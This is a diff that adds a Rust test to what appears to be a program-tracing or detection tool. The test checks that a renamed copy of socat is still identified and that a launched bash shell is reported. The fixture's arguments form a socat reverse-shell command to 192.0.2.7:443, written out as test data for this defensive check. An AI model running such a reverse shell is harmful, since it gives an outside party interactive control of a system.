@@ -166,3 +166,13 @@ fn content_that_was_not_kept_is_asked_for() {
         .follow();
     assert!(path.missing.iter().any(|m| m.path == "e.sh".into() && m.starts), "{:?}", path.missing);
 }
+
+#[test]
+fn a_copy_of_a_tool_under_another_name_is_still_the_tool() {
+    let path = Fixture::new()
+        .file("usr/bin/socat", "\u{7f}ELF\0socat", 0o755)
+        .file("opt/x", "\u{7f}ELF\0socat", 0o755)
+        .start(&["/opt/x", "exec:'bash -li',pty", "tcp:192.0.2.7:443"], &[])
+        .follow();
+    assert!(lines(&path).iter().any(|line| line.starts_with("run bash")), "{:?}", lines(&path));
+}
